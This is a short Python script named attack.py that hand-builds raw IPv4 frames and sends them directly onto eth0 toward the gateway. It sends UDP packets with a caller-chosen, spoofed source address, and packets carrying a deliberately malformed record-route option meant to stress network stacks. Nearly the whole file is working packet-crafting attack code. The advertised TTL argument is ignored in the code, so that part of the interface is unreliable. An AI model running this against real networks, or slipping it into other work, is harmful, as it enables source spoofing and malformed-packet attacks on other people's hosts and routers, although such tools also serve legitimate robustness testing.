"""Packets that no well-behaved stack sends. `attack.py udp SRC DST PORT [TTL]` | `option SRC DST`:
one frame per call, straight to the wire of eth0, to the gateway's MAC given as GW_MAC."""
import os
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def ipv4(source: str, target: str, protocol: int, payload: bytes, options: bytes = b"") -> bytes:
    size = 20 + len(options)
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x40 | size // 4, 0, size + len(payload), 1, 0, 64, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(target),
    ) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def main() -> None:
    kind, source, target = sys.argv[1:4]
    gateway = bytes.fromhex(os.environ["GW_MAC"].replace(":", ""))
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind(("eth0", 0x0800))
    own = wire.getsockname()[4]
    if kind == "udp":
        port = int(sys.argv[4])
        packet = ipv4(source, target, 17, struct.pack("!HHHH", 4000, port, 12, 0) + b"ping")
    else:
        # A record-route option whose pointer (RFC 791 §3.1) lies before its first slot.
        packet = ipv4(source, target, 17, struct.pack("!HHHH", 4000, 9, 8, 0), bytes([7, 7, 1, 0, 0, 0, 0, 0]))
    wire.send(gateway + own + b"\x08\x00" + packet)


main()
